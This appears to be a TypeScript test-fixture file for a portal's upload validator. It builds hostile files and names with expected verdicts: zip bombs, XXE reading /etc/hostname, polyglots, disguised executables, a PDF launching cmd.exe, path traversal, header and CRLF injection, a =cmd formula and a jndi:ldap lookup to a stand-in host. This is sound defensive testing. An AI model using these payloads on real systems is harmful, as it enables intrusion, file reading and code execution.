import { crc32, deflateRawSync } from "node:zlib";
import { encryptedPdfs } from "./encrypted-pdfs";
import { aJpg, aPdf, aPng, aZip, pngOfPixels } from "./files";

/** Files made to harm whoever stores, opens or shows them. */

const wordTypes = '<?xml version="1.0"?><Types><Override PartName="/x.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const sheetTypes = wordTypes.replace("wordprocessingml.document", "spreadsheetml.sheet");
const script = "<script>window.__xss = 1</script>";
/** The test file every scanner knows, in two halves, so that no scanner finds it here. */
export const eicar = Buffer.from(`X5O!P%@AP[4\\PZX54(P^)7CC)7}$${"EICAR-STANDARD-ANTIVIRUS-TEST-FILE"}!$H+H*`);

interface Part {
  name: string;
  content: Buffer;
  /** what the archive says it unpacks to, instead of the truth */
  announced?: number;
  isEncrypted?: boolean;
}

/** An archive with compression, whose directory may lie. Equal contents are packed once. */
export function packed(parts: readonly Part[]): Buffer {
  const done = new Map<Buffer, { bytes: Buffer; check: number }>();
  const local: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const { name, content, announced = content.length, isEncrypted = false } of parts) {
    const { bytes, check } = done.get(content) ?? { bytes: deflateRawSync(content), check: crc32(content) };
    done.set(content, { bytes, check });
    const path = Buffer.from(name);
    const facts = Buffer.alloc(26);
    facts.writeUInt16LE(20, 0);
    facts.writeUInt16LE(isEncrypted ? 1 : 0, 2);
    facts.writeUInt16LE(8, 4);
    facts.writeUInt32LE(check, 10);
    facts.writeUInt32LE(bytes.length, 14);
    facts.writeUInt32LE(announced, 18);
    facts.writeUInt16LE(path.length, 22);
    const place = Buffer.alloc(14);
    place.writeUInt32LE(at, 10);
    local.push(Buffer.from("PK\x03\x04"), facts, path, bytes);
    directory.push(Buffer.from("PK\x01\x02"), Buffer.from([20, 0]), facts, place, path);
    at += 4 + facts.length + path.length + bytes.length;
  }
  const end = Buffer.alloc(18);
  end.writeUInt16LE(parts.length, 4);
  end.writeUInt16LE(parts.length, 6);
  end.writeUInt32LE(Buffer.concat(directory).length, 8);
  end.writeUInt32LE(at, 12);
  return Buffer.concat([...local, ...directory, Buffer.from("PK\x05\x06"), end]);
}

const types = (content: string): Part => ({ name: "[Content_Types].xml", content: Buffer.from(content) });
const aWordFile = (...parts: Part[]) => packed([types(wordTypes), { name: "word/document.xml", content: Buffer.from("<w:document/>") }, ...parts]);
const nothing = Buffer.alloc(0);
const zeros = Buffer.alloc(32 * 1024 * 1024);
const external = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><w:document>&x;</w:document>';

type Verdict = "file.type-refused" | "file.type-mismatch" | "file.picture-broken" | "file.picture-too-large" | "file.document-broken" | "file.document-locked" | "file.document-unsafe";

/** What is refused, and with which sentence. */
export const refusedFiles: readonly (readonly [what: string, name: string, bytes: () => Buffer, verdict: Verdict])[] = [
  ["a page that says it is a PDF", "证明.pdf", () => Buffer.from(`<!doctype html>${script}`), "file.type-mismatch"],
  ["a page with a PDF's mark behind", "证明.pdf", () => Buffer.from(`<!doctype html>${script}<!--\n%PDF-1.4\n%%EOF`), "file.type-mismatch"],
  ["a drawing with a script that says it is a picture", "图.png", () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`), "file.type-mismatch"],
  ["a drawing with a script", "图.svg", () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`), "file.type-refused"],
  ["a Windows program", "照片.jpg", () => Buffer.concat([Buffer.from("MZ"), Buffer.alloc(500)]), "file.type-mismatch"],
  ["a Linux program", "照片.png", () => Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01"), Buffer.alloc(500)]), "file.type-mismatch"],
  ["a picture in GIF with a Java archive behind (GIFAR)", "图.jpg", () => Buffer.concat([Buffer.from("GIF89a\x01\x00\x01\x00\x80\x00\x00", "latin1"), aZip({ "X.class": "x" })]), "file.type-mismatch"],
  ["the scanners' test file", "病毒.pdf", () => eicar, "file.type-mismatch"],
  ["a script with two extensions", "发票.pdf.js", () => Buffer.from("WScript.Echo(1)"), "file.type-refused"],
  ["a PDF with a Java archive behind", "证明.pdf", () => Buffer.concat([aPdf, aZip({ "X.class": "x".repeat(2_000) })]), "file.document-broken"],
  ["a PDF nobody can open without its password", "回单.pdf", () => encryptedPdfs.find(({ isLocked }) => isLocked)?.bytes ?? aPdf, "file.document-locked"],
  ["half a PDF", "证明.pdf", () => aPdf.subarray(0, 40), "file.document-broken"],
  ["half a picture", "章.png", () => aPng.subarray(0, aPng.length - 20), "file.picture-broken"],
  ["half a photograph", "照片.jpg", () => aJpg.subarray(0, aJpg.length / 2), "file.picture-broken"],
  ["a picture of a billion pixels in a few bytes", "章.png", () => pngOfPixels(32_000, 32_000), "file.picture-too-large"],
  ["half a document", "合同.docx", () => aWordFile().subarray(0, -30), "file.document-broken"],
  ["a sheet of 256 MiB in 0.3", "名单.xlsx", () => packed([types(sheetTypes), ...Array.from({ length: 8 }, (_, i) => ({ name: `xl/worksheets/sheet${i}.xml`, content: zeros }))]), "file.document-unsafe"],
  ["the same, announced as a few bytes", "名单.xlsx", () => packed([types(sheetTypes), ...Array.from({ length: 8 }, (_, i) => ({ name: `xl/worksheets/sheet${i}.xml`, content: zeros, announced: 100 }))]), "file.document-broken"],
  ["a document of sixty thousand parts", "合同.docx", () => aWordFile(...Array.from({ length: 60_000 }, (_, i) => ({ name: `word/${i}.xml`, content: nothing }))), "file.document-unsafe"],
  ["a document that reads a file of ours (XXE)", "合同.docx", () => packed([types(wordTypes), { name: "word/document.xml", content: Buffer.from(external) }]), "file.document-unsafe"],
  ["the same in wide letters", "合同.docx", () => packed([types(wordTypes), { name: "word/document.xml", content: Buffer.from(`\ufeff${external}`, "utf16le") }]), "file.document-unsafe"],
  ["the same behind a megabyte of remarks", "名单.xlsx", () => packed([types(sheetTypes), { name: "xl/workbook.xml", content: Buffer.from(`<!--${"x".repeat(1_048_570)}-->${external}`) }]), "file.document-unsafe"],
  ["a document with macros", "合同.docx", () => aWordFile({ name: "word/vbaProject.bin", content: Buffer.from("x") }), "file.document-unsafe"],
  ["a document with a program in it", "合同.docx", () => aWordFile({ name: "word/embeddings/invoice.exe", content: Buffer.from("MZ") }), "file.document-unsafe"],
  ["a document whose part leads out of it (zip slip)", "合同.docx", () => aWordFile({ name: "../../../tmp/canary", content: Buffer.from("x") }), "file.document-broken"],
  ["a document behind a password", "合同.docx", () => aWordFile({ name: "word/secret.xml", content: Buffer.from("x"), isEncrypted: true }), "file.document-unsafe"],
  ["an OFD with a page in it", "执照.ofd", () => packed([{ name: "OFD.xml", content: Buffer.from("<ofd:OFD/>") }, { name: "Doc_0/index.html", content: Buffer.from(script) }]), "file.document-unsafe"],
];

/** What is taken, because it is what it says it is; it must lie still wherever it is opened from the portal. */
export const inertFiles: readonly (readonly [what: string, name: string, bytes: () => Buffer])[] = [
  ["a PDF that only forbids copying", "回单.pdf", () => encryptedPdfs.find(({ isLocked }) => !isLocked)?.bytes ?? nothing],
  ["a PDF that is a page, too", "证明.pdf", () => Buffer.from(`%PDF-1.4\n<!doctype html>${script}\n%%EOF\n`)],
  ["a PDF with a script and a launch action", "证明.pdf", () => Buffer.from("%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>/AA<</O<</S/Launch/F(cmd.exe)>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")],
  ["a photograph with a page in its remarks and an archive behind", "照片.jpg", () => Buffer.concat([aJpg.subarray(0, 2), Buffer.from([0xff, 0xfe, 0, script.length + 2]), Buffer.from(script), aJpg.subarray(2), aZip({ "X.class": "x" })])],
  ["a document with the scanners' test file as a picture", "合同.docx", () => aWordFile({ name: "word/media/image1.png", content: eicar })],
  ["a document that fetches its template from elsewhere", "合同.docx", () => aWordFile({ name: "word/_rels/settings.xml.rels", content: Buffer.from('<Relationships><Relationship TargetMode="External" Target="http://canary.invalid/x.dotm" Type="…/attachedTemplate"/></Relationships>') })],
];

/** Names made to lead elsewhere, break a header or deceive a reader, each with the name it may be kept under. */
export const hostileNames: readonly (readonly [name: string, kept: string])[] = [
  ["../../../../tmp/canary.pdf", "canary.pdf"],
  ["..\\..\\windows\\canary.pdf", "canary.pdf"],
  ["/etc/cron.d/canary.pdf", "canary.pdf"],
  ["C:\\Users\\a\\canary.pdf", "canary.pdf"],
  ["a.pdf\u0000.pdf", "a.pdf.pdf"],
  ["合同\u202efdp.exe.pdf", "合同fdp.exe.pdf"],
  ["a\u200b\u2028\u2029b.pdf", "ab.pdf"],
  ["<img src=x onerror=alert(1)>.pdf", "<img src=x onerror=alert(1)>.pdf"],
  ["\"; filename=evil.html; x=\".pdf", "\"; filename=evil.html; x=\".pdf"],
  ["a%0d%0aSet-Cookie: x=1.pdf", "a%0d%0aSet-Cookie: x=1.pdf"],
  ["=cmd|' calc'!A1.pdf", "=cmd|' calc'!A1.pdf"],
  ["${jndi:ldap://canary.invalid/x}.pdf", "x}.pdf"],
  [`${"长".repeat(3_000)}.pdf`, `${"长".repeat(110)}.pdf`],
  ["  .pdf", "file.pdf"],
  ["....pdf", "....pdf"],
  ["🏢材料'（1）*.pdf", "🏢材料'（1）*.pdf"],
  [".htaccess.pdf", ".htaccess.pdf"],
];
